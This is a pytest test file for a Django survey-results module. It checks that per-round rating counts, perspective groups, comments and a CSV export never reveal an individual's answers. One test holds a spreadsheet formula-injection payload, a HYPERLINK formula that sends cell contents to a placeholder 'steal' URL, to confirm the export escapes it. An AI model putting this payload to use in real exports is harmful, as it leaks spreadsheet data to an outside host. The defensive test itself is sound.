"""The results of a round: counted so that no one's answers can be picked out, whether by a
small group, a hidden statement taken from its key role's total, or one group taken from another;
comments without names; an export of the aggregates only; and the trend across rounds."""

import csv
import io
from collections import Counter
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from members.models import Perspective, User, Visibility
from tests.factories import UserFactory
from tests.vision.rounds import close_early, were_members_when_it_opened
from vision.models import KeyRole, Rating, Round, RoundStatement, Statement
from vision.results import ROUND_GROUP_MIN, results_csv, round_results, safe_groups, trend
from vision.services import answers_save, framework_start, round_open

pytestmark = pytest.mark.django_db

LIVED = Perspective.LIVED_EXPERIENCE
CARER = Perspective.CARER
LIVED_LABEL, CARER_LABEL = "Lived experience of services", "Carer"
HIDDEN_NOTE = "Fewer than 5 people who were members when the round opened answered, so the answers are not shown."


def people(n: int, perspectives=(), visibility=Visibility.MEMBERS) -> list[User]:
    return UserFactory.create_batch(n, perspectives=list(perspectives), perspectives_visibility=visibility)


def open_round(collaborative, facilitator, title="Spring") -> Round:
    closing_day = collaborative.local_today() + timedelta(days=7)
    return round_open(collaborative=collaborative, by=facilitator, title=title, closing_day=closing_day)


def role_statements(round: Round, number: int = 1) -> list[RoundStatement]:
    return list(round.statements.filter(key_role__number=number))


def answer(round: Round, users, rating: str, statements: list[RoundStatement] | None = None, comment: str = "") -> None:
    """Each of `users` gives `rating` to `statements` (all of key role 1 unless given)."""
    statements = role_statements(round) if statements is None else statements
    were_members_when_it_opened(round, users)
    for user in users:
        answers_save(round=round, user=user, answers={s.pk: (rating, comment) for s in statements})


def answer_mostly(round: Round, users, rating: str, last: str) -> None:
    """All but the last of `users` give `rating` to every statement of key role 1; the last gives `last`."""
    answer(round, users[:-1], rating)
    answer(round, users[-1:], last)


def closed_round(collaborative, facilitator, title: str, ratings: list[str]) -> Round:
    """A round closed after one new person per rating gave it to every statement of key role 1."""
    round = open_round(collaborative, facilitator, title)
    for rating in ratings:
        answer(round, people(1), rating)
    return close_early(round, facilitator)


def groups(results, number: int = 1) -> dict[str, Counter]:
    """The perspective groups shown for a key role, with their counts."""
    return {label: +tally.counts for label, tally in results.key_roles[number - 1].groups}


def csv_rows(results) -> list[dict]:
    return list(csv.DictReader(io.StringIO(results_csv(results).removeprefix("\ufeff"))))


# Nothing while open, nothing for fewer than five.


def test_nothing_is_shown_while_the_round_is_open(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(6), Rating.STRONG)

    assert not round_results(round).shown

    round = close_early(round, facilitator)
    results = round_results(round)
    assert results.shown
    assert results.respondents == 6


def test_a_round_answered_by_fewer_than_five_people_is_not_shown(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(ROUND_GROUP_MIN - 1), Rating.STRONG)
    # A comment without a rating does not make someone a respondent.
    answer(round, people(1), "", comment="I was not sure what to say.")
    round = close_early(round, facilitator)

    results = round_results(round)

    assert results.respondents == 4
    assert not results.shown
    assert not any(s.shown for role in results.key_roles for s in role.statements)


def test_five_people_answering_is_enough(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(5), Rating.STARTING)
    round = close_early(round, facilitator)

    results = round_results(round)

    assert results.shown
    first = results.key_roles[0].statements[0]
    assert first.shown
    assert first.tally.answered == 5
    assert [(row["rating"], row["count"], row["percent"]) for row in first.tally.rows()] == [
        ("Not yet", 0, 0),
        ("Starting", 5, 100),
        ("Getting there", 0, 0),
        ("Strong", 0, 0),
        ("Don't know", 0, 0),
    ]


def test_statements_and_key_roles_are_in_the_order_of_the_framework(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    round = close_early(round, facilitator)

    results = round_results(round)

    assert [role.key_role.number for role in results.key_roles] == [1, 2, 3, 4, 5]
    assert [s.text for s in results.key_roles[0].statements] == [s.text for s in role_statements(round)]


# A statement answered by too few: hidden, and not to be had from its key role's total.


def test_a_statement_answered_by_fewer_than_five_is_hidden_and_left_out_of_its_key_role(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    *shown, last = role_statements(round)
    everyone = people(6)
    answer(round, everyone, Rating.NOT_YET, shown)
    answer(round, everyone[:4], Rating.STRONG, [last])
    round = close_early(round, facilitator)

    role = round_results(round).key_roles[0]

    assert [s.shown for s in role.statements] == [True, True, True, True, False]
    assert role.statements[4].tally.answered == 0  # Nothing is kept of a hidden statement.
    # The key role counts only the statements shown: taking them from its total gives nothing.
    assert +role.tally.counts == Counter({Rating.NOT_YET: 24})
    assert role.tally.counts == sum((s.tally.counts for s in role.statements if s.shown), Counter())
    assert role.tally.answered == 6
    assert role.tally.positive == 0


def test_someone_who_answered_only_a_hidden_statement_is_not_counted_in_its_key_role(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    first, *_, last = role_statements(round)
    answer(round, people(5), Rating.NOT_YET, [first])
    answer(round, people(3), Rating.STRONG, [last])
    round = close_early(round, facilitator)

    results = round_results(round)

    role = results.key_roles[0]
    assert results.respondents == 8
    assert (role.tally.answered, +role.tally.counts) == (5, Counter({Rating.NOT_YET: 5}))


def test_a_hidden_statement_is_left_out_of_its_key_roles_perspective_groups(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    first, *_, last = role_statements(round)
    lived, others = people(5, [LIVED]), people(5)
    answer(round, lived + others, Rating.NOT_YET, [first])
    answer(round, lived[:4], Rating.STRONG, [last])
    round = close_early(round, facilitator)

    assert groups(round_results(round)) == {LIVED_LABEL: Counter({Rating.NOT_YET: 5})}


# Comments: without names, in alphabetical order.


def test_comments_are_shown_without_names_in_alphabetical_order(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    first, *_ = role_statements(round)
    comments = [
        "Waiting lists are long",
        "apple a day",
        "Better than last year",
        "carers are listened to",
        "Zero progress",
    ]
    commenters = people(5)
    were_members_when_it_opened(round, commenters)
    for user, comment in zip(commenters, comments, strict=True):
        answers_save(round=round, user=user, answers={first.pk: (Rating.STARTING, comment)})
    round = close_early(round, facilitator)

    statement = round_results(round).key_roles[0].statements[0]

    assert statement.comments == [
        "apple a day",
        "Better than last year",
        "carers are listened to",
        "Waiting lists are long",
        "Zero progress",
    ]
    assert all(type(comment) is str for comment in statement.comments)


# Perspective groups: only five or more, and never two groups a few people apart.


def test_safe_groups_leaves_out_groups_of_fewer_than_five():
    everyone = set(range(20))

    assert safe_groups(everyone, {"a": set(range(4)), "b": set(range(10, 15))}) == ["b"]


def test_safe_groups_shows_a_group_that_is_everyone():
    everyone = set(range(6))

    assert safe_groups(everyone, {"a": set(everyone)}) == ["a"]


@pytest.mark.parametrize(("everyone", "shown"), [(6, []), (9, []), (10, ["a"]), (11, ["a"])])
def test_safe_groups_leaves_out_a_group_one_to_four_people_short_of_everyone(everyone, shown):
    assert safe_groups(set(range(everyone)), {"a": set(range(5))}) == shown


def test_safe_groups_leaves_out_the_smaller_of_two_groups_a_few_people_apart():
    everyone = set(range(30))

    assert safe_groups(everyone, {"a": set(range(6)), "b": set(range(8))}) == ["b"]
    # Same size, overlapping but for two people each way: only one of them is shown.
    assert len(safe_groups(everyone, {"a": set(range(0, 6)), "b": set(range(2, 8))})) == 1


def test_safe_groups_keeps_groups_that_no_longer_clash_once_another_is_left_out():
    everyone = set(range(20))
    groups = {"a": set(range(5)), "b": set(range(6)), "c": set(range(10, 20))}

    # With b and c, the four people 6 to 9 (in neither) would be everyone less b less c;
    # with a and c, the five people 5 to 9 are: enough.
    assert safe_groups(everyone, groups) == ["a", "c"]


def test_safe_groups_keeps_the_order_given():
    everyone = set(range(30))
    groups = {"z": set(range(20, 30)), "a": set(range(10)), "m": set(range(10, 20))}

    assert safe_groups(everyone, groups) == ["z", "a", "m"]


def test_safe_groups_never_shows_groups_that_together_leave_out_a_few_people():
    everyone = set(range(11))
    lived, carers = set(range(5)), set(range(5, 10))  # Person 10 is in neither.

    shown = safe_groups(everyone, {"lived": lived, "carers": carers})

    # Everyone's counts less both groups' counts would be person 10's answers.
    assert len(shown) < 2


def test_safe_groups_leaves_out_a_group_whose_people_all_gave_one_answer():
    everyone = set(range(10))
    ratings = {person: {"not_yet"} for person in range(5)} | {person: {"strong"} for person in range(5, 10)}

    assert safe_groups(everyone, {"carers": set(range(5))}, ratings) == []
    # One carer also said "Starting" somewhere, and one of the rest "Not yet": no one's answers are certain.
    ratings[0] = {"not_yet", "starting"}
    ratings[9] = {"strong", "not_yet"}
    assert safe_groups(everyone, {"carers": set(range(5))}, ratings) == ["carers"]


def test_safe_groups_shows_one_answer_from_a_group_when_it_was_everyones():
    everyone = set(range(10))
    ratings = {person: {"strong"} for person in everyone}

    assert safe_groups(everyone, {"carers": set(range(5))}, ratings) == ["carers"]


def test_safe_groups_leaves_out_groups_that_leave_the_rest_with_one_answer():
    everyone = set(range(15))
    ratings = {person: {"strong", "starting"} for person in range(10)} | {
        person: {"not_yet"} for person in range(10, 15)
    }

    # Carers and the lived-experience group each gave two answers, but the five in neither
    # gave one: everyone less both groups would say what each of those five said.
    shown = safe_groups(everyone, {"lived": set(range(5)), "carers": set(range(5, 10))}, ratings)
    assert len(shown) < 2


def test_a_group_that_all_gave_one_answer_is_not_shown(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(5, [CARER]), Rating.NOT_YET)
    answer_mostly(round, people(5), Rating.STRONG, Rating.STARTING)
    round = close_early(round, facilitator)

    results = round_results(round)

    # Everyone in the directory can see who the carers are: a row of five "Not yet" would say what each carer said.
    assert results.shown
    assert groups(results) == {}


def test_one_persons_answers_cannot_be_had_by_taking_two_groups_from_everyone(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(5, [LIVED]), Rating.STARTING)
    answer(round, people(5, [CARER]), Rating.GETTING_THERE)
    answer(round, people(1), Rating.NOT_YET)  # Someone who shares no perspective (everyone knows who).
    round = close_early(round, facilitator)

    results = round_results(round)

    role = results.key_roles[0]
    left_over = role.tally.counts - sum((tally.counts for _, tally in role.groups), Counter())
    assert left_over != Counter({Rating.NOT_YET: 5})


def test_a_group_of_four_among_five_respondents_is_not_shown(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(4, [LIVED]) + people(1, [CARER]), Rating.STRONG)
    round = close_early(round, facilitator)

    results = round_results(round)

    assert results.shown
    assert groups(results) == {}


def test_a_group_of_five_among_six_respondents_is_not_shown(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(5, [LIVED]), Rating.STRONG)
    answer(round, people(1), Rating.NOT_YET)
    round = close_early(round, facilitator)

    # Everyone's counts less the group's would be the sixth person's answers.
    assert groups(round_results(round)) == {}


def test_groups_of_five_or_more_far_enough_apart_are_shown_by_key_role(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer_mostly(round, people(5, [LIVED]), Rating.STRONG, Rating.GETTING_THERE)
    answer_mostly(round, people(5, [CARER]), Rating.STARTING, Rating.NOT_YET)
    answer_mostly(round, people(5), Rating.NOT_YET, Rating.DONT_KNOW)
    round = close_early(round, facilitator)

    results = round_results(round)

    assert groups(results) == {
        LIVED_LABEL: Counter({Rating.STRONG: 20, Rating.GETTING_THERE: 5}),
        CARER_LABEL: Counter({Rating.STARTING: 20, Rating.NOT_YET: 5}),
    }
    assert [tally.answered for _, tally in results.key_roles[0].groups] == [5, 5]
    # Nobody answered the other key roles.
    assert all(groups(results, number) == {} for number in range(2, 6))


def test_a_group_that_is_everyone_is_shown(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(5, [LIVED, CARER]), Rating.GETTING_THERE)
    round = close_early(round, facilitator)

    assert groups(round_results(round)) == {
        LIVED_LABEL: Counter({Rating.GETTING_THERE: 25}),
        CARER_LABEL: Counter({Rating.GETTING_THERE: 25}),
    }


def test_two_groups_a_few_people_apart_are_not_both_shown(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer(round, people(6, [LIVED, CARER]), Rating.STRONG)
    answer(round, people(2, [LIVED]), Rating.NOT_YET)
    answer_mostly(round, people(12), Rating.STARTING, Rating.DONT_KNOW)
    round = close_early(round, facilitator)

    # Lived experience (8) less carers (6) would be two people's answers: the smaller group goes.
    assert groups(round_results(round)) == {LIVED_LABEL: Counter({Rating.STRONG: 30, Rating.NOT_YET: 10})}


@pytest.mark.parametrize("visibility", [Visibility.FACILITATORS, Visibility.NOBODY])
def test_perspectives_not_shared_with_members_are_not_used(collaborative, facilitator, visibility):
    round = open_round(collaborative, facilitator)
    answer(round, people(4, [LIVED]), Rating.STRONG)
    answer(round, people(1, [LIVED], visibility=visibility), Rating.STRONG)
    answer(round, people(5), Rating.NOT_YET)
    round = close_early(round, facilitator)

    assert groups(round_results(round)) == {}


def test_perspectives_shared_with_members_are_used(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    answer_mostly(round, people(5, [LIVED]), Rating.STRONG, Rating.STARTING)
    answer_mostly(round, people(5), Rating.NOT_YET, Rating.STARTING)
    round = close_early(round, facilitator)

    assert groups(round_results(round)) == {LIVED_LABEL: Counter({Rating.STRONG: 20, Rating.STARTING: 5})}


# The export: aggregates only.


def test_the_export_has_the_counts_shown_and_a_note_for_hidden_statements(collaborative, facilitator):
    round = open_round(collaborative, facilitator, "Autumn 2026")
    *shown, last = role_statements(round)
    lived, others = people(5, [LIVED]), people(5)
    answer(round, lived[:4], Rating.STRONG, shown)
    answer(round, lived[4:], Rating.STARTING, shown)
    answer(round, others[:4], Rating.NOT_YET, shown)
    answer(round, others[4:], Rating.DONT_KNOW, shown)
    answer(round, lived[:4], Rating.GETTING_THERE, [last])
    round = close_early(round, facilitator)

    rows = csv_rows(round_results(round))

    assert list(rows[0]) == [
        "Round",
        "Key role",
        "Statement",
        "Group",
        "People who answered",
        "Not yet",
        "Starting",
        "Getting there",
        "Strong",
        "Don't know",
        "Note",
    ]
    role = "1. Creating, holding and refreshing the vision and values"
    assert rows[0] == {
        "Round": "Autumn 2026",
        "Key role": role,
        "Statement": "We are clear about our motivation and vision",
        "Group": "Everyone",
        "People who answered": "10",
        "Not yet": "4",
        "Starting": "1",
        "Getting there": "0",
        "Strong": "4",
        "Don't know": "1",
        "Note": "",
    }
    hidden = rows[4]
    assert hidden["Statement"] == last.text
    assert [hidden[column] for column in list(rows[0])[4:10]] == [""] * 6
    assert hidden["Note"] == HIDDEN_NOTE
    whole, group = rows[5], rows[6]
    assert (whole["Statement"], whole["Group"], whole["People who answered"], whole["Strong"]) == (
        "All statements shown above",
        "Everyone",
        "10",
        "16",
    )
    assert (group["Group"], group["People who answered"], group["Strong"], group["Starting"]) == (
        LIVED_LABEL,
        "5",
        "16",
        "4",
    )
    # Five statements and two totals for the first key role, five statements and a total for each other.
    assert len(rows) == 7 + 4 * 6


def test_the_export_has_no_comments_and_nothing_about_who_answered(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    respondents = people(6, [LIVED])
    for n, user in enumerate(respondents):
        answer(round, [user], Rating.STRONG, comment=f"My own words number {n}")
    round = close_early(round, facilitator)

    exported = results_csv(round_results(round))

    assert "My own words" not in exported
    for user in respondents:
        assert user.display_name not in exported
        assert user.email not in exported
    # Only counts of people: six for the key role answered, none or blank for the others.
    assert {row["People who answered"] for row in csv.DictReader(io.StringIO(exported))} == {"6", "0", ""}


def test_a_statement_or_key_role_starting_with_equals_is_plain_text_in_the_csv(collaborative, facilitator):
    """Wording typed by facilitators reaches the CSV; a spreadsheet must show it, never run it."""
    framework_start(collaborative=collaborative)
    formula = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'
    KeyRole.objects.filter(collaborative=collaborative, number=1).update(title=formula)
    Statement.objects.filter(key_role__collaborative=collaborative, key_role__number=1, position=0).update(text="=1+1")
    Statement.objects.filter(key_role__collaborative=collaborative, key_role__number=2, position=0).update(
        text="@SUM(A1:A9)"
    )
    round = open_round(collaborative, facilitator, title="-2+3")
    answer(round, people(5), Rating.STRONG, list(round.statements.all()))
    round = close_early(round, facilitator)

    rows = list(csv.reader(io.StringIO(results_csv(round_results(round)).removeprefix("\ufeff"))))

    first = rows[1]
    assert first[:3] == ["'-2+3", f"1. {formula}", "'=1+1"]
    assert any(row[2] == "'@SUM(A1:A9)" for row in rows)
    # No cell anywhere starts as a formula would.
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_results_take_the_same_number_of_queries_however_many_answered(collaborative, facilitator):
    small, large = [], []
    for count, queries in ((5, small), (15, large)):
        round = open_round(collaborative, facilitator, f"Round of {count}")
        answer(round, people(count, [LIVED]), Rating.STRONG, list(round.statements.all()))
        round = close_early(round, facilitator)
        with CaptureQueriesContext(connection) as captured:
            results_csv(round_results(round))
            trend(round)
        queries.append(len(captured))

    assert small == large


# The trend: this round and the closed rounds before it.


def test_the_trend_shows_each_key_roles_share_of_getting_there_or_strong(collaborative, facilitator):
    ratings = [Rating.STRONG, Rating.GETTING_THERE, Rating.STARTING, Rating.NOT_YET, Rating.DONT_KNOW]
    round = closed_round(collaborative, facilitator, "Spring", ratings)

    rounds, series = trend(round)

    assert rounds == [round]
    assert [key_role.number for key_role, _ in series] == [1, 2, 3, 4, 5]
    # Two of the four who did not say "Don't know".
    assert series[0][1][0].positive == 50
    # Nobody answered the other key roles.
    assert [points[0].positive for _, points in series[1:]] == [None] * 4


@pytest.mark.parametrize(
    ("ratings", "positive"),
    [
        ([Rating.STRONG, Rating.GETTING_THERE, Rating.NOT_YET, Rating.DONT_KNOW, Rating.DONT_KNOW], 67),
        ([Rating.STRONG, Rating.NOT_YET, Rating.NOT_YET, Rating.DONT_KNOW, Rating.DONT_KNOW], 33),
        ([Rating.STRONG] * 5, 100),
        ([Rating.STARTING] * 5, 0),
        ([Rating.DONT_KNOW] * 5, None),
    ],
)
def test_the_trend_share_leaves_out_dont_know_and_rounds_to_whole_per_cent(
    collaborative, facilitator, ratings, positive
):
    round = closed_round(collaborative, facilitator, "Spring", ratings)

    _, series = trend(round)

    assert series[0][1][0].positive == positive


def test_the_trend_includes_earlier_closed_rounds_oldest_first(collaborative, facilitator):
    spring = closed_round(collaborative, facilitator, "Spring", [Rating.NOT_YET] * 5)
    summer = closed_round(collaborative, facilitator, "Summer", [Rating.STRONG] * 2 + [Rating.NOT_YET] * 3)
    autumn = closed_round(collaborative, facilitator, "Autumn", [Rating.STRONG] * 5)

    rounds, series = trend(autumn)

    assert rounds == [spring, summer, autumn]
    assert [(point.round, point.positive) for point in series[0][1]] == [(spring, 0), (summer, 40), (autumn, 100)]
    # Looking back from summer, autumn (opened later) is not part of it.
    assert trend(summer)[0] == [spring, summer]


def test_the_trend_goes_back_only_as_far_as_its_limit(collaborative, facilitator):
    titles = ["One", "Two", "Three", "Four"]
    made = [closed_round(collaborative, facilitator, title, [Rating.STRONG] * 5) for title in titles]

    assert trend(made[-1], limit=2)[0] == made[-2:]
    assert trend(made[-1], limit=3)[0] == made[-3:]
    assert trend(made[-1])[0] == made


def test_the_trend_hides_an_open_round_but_shows_the_closed_ones_before_it(collaborative, facilitator):
    spring = closed_round(collaborative, facilitator, "Spring", [Rating.STRONG] * 5)
    autumn = open_round(collaborative, facilitator, "Autumn")
    answer(autumn, people(5), Rating.NOT_YET)

    rounds, series = trend(autumn)

    assert rounds == [spring, autumn]
    assert [point.positive for point in series[0][1]] == [100, None]


def test_the_trend_leaves_out_an_open_round_when_looking_at_a_later_one(collaborative, facilitator):
    """A round still open (here one whose dates were moved by hand) never shows in another round's trend."""
    spring = closed_round(collaborative, facilitator, "Spring", [Rating.STRONG] * 5)
    summer = closed_round(collaborative, facilitator, "Summer", [Rating.STRONG] * 5)
    # As if it were open still: not counted yet.
    Round.objects.filter(pk=spring.pk).update(closes_at=timezone.now() + timedelta(days=30), counted_at=None)

    assert trend(summer)[0] == [summer]


def test_the_trend_hides_a_round_answered_by_fewer_than_five(collaborative, facilitator):
    spring = closed_round(collaborative, facilitator, "Spring", [Rating.STRONG] * 4)
    autumn = closed_round(collaborative, facilitator, "Autumn", [Rating.STRONG] * 5)

    rounds, series = trend(autumn)

    assert rounds == [spring, autumn]
    assert [point.positive for point in series[0][1]] == [None, 100]


def test_the_trend_counts_only_statements_enough_people_answered(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    first, *_, last = role_statements(round)
    answer(round, people(5), Rating.NOT_YET, [first])
    answer(round, people(4), Rating.STRONG, [last])
    round = close_early(round, facilitator)

    _, series = trend(round)

    # The four "Strong" answers to a hidden statement would make it 4 in 9 (44%).
    assert series[0][1][0].positive == 0


def test_the_trend_leaves_out_other_collaboratives_rounds(collaborative, other_collaborative, facilitator):
    closed_round(other_collaborative, facilitator, "Theirs", [Rating.STRONG] * 5)
    ours = closed_round(collaborative, facilitator, "Ours", [Rating.STRONG] * 5)

    rounds, series = trend(ours)

    assert rounds == [ours]
    assert [key_role.collaborative for key_role, _ in series] == [collaborative] * 5


def test_someone_who_stops_sharing_before_the_round_closes_is_not_counted_in_a_group(
    client, collaborative, facilitator
):
    round = open_round(collaborative, facilitator)
    carers = people(6, [CARER])
    answer_mostly(round, carers, Rating.STRONG, Rating.STARTING)
    answer_mostly(round, people(6), Rating.NOT_YET, Rating.DONT_KNOW)
    leaving = carers[0]
    client.force_login(leaving)
    response = client.post(
        reverse("members:profile"),
        {"display_name": leaving.display_name, "perspectives": [CARER], "perspectives_visibility": "nobody"}
        | {"organisation_visibility": "members", "job_title_visibility": "members"},
    )
    assert response.status_code == 302
    round = close_early(round, facilitator)

    # Six carers answered; the one who stopped sharing is counted with everyone, not with the carers.
    assert [(label, tally.answered) for label, tally in round_results(round).key_roles[0].groups] == [(CARER_LABEL, 5)]


def test_a_closed_rounds_groups_do_not_move_when_someone_changes_their_profile(collaborative, facilitator):
    """Figures by perspective come from what people shared when they answered: if they followed
    profiles as they are now, comparing the page before and after one change would give that
    person's answers away."""
    round = open_round(collaborative, facilitator)
    carers = people(6, [CARER])
    answer_mostly(round, carers, Rating.STRONG, Rating.STARTING)
    answer_mostly(round, people(6), Rating.NOT_YET, Rating.DONT_KNOW)
    round = close_early(round, facilitator)
    before = [(label, dict(tally.counts)) for label, tally in round_results(round).key_roles[0].groups]

    carers[0].perspectives_visibility = Visibility.NOBODY
    carers[0].perspectives = [LIVED]
    carers[0].save()

    after = [(label, dict(tally.counts)) for label, tally in round_results(round).key_roles[0].groups]
    assert before == after
    assert before[0][0] == CARER_LABEL


def test_a_comment_without_a_rating_or_under_a_hidden_statement_is_not_shown(collaborative, facilitator):
    round = open_round(collaborative, facilitator)
    first, second = role_statements(round)[:2]
    answer(round, people(5), Rating.STRONG, statements=[first])
    answer(round, people(1), "", statements=[first], comment="Only a comment, no rating")
    answer(round, people(2), Rating.NOT_YET, statements=[second], comment="One of two who answered")
    round = close_early(round, facilitator)

    statements = round_results(round).key_roles[0].statements

    assert statements[0].comments == []
    assert statements[1].comments == []
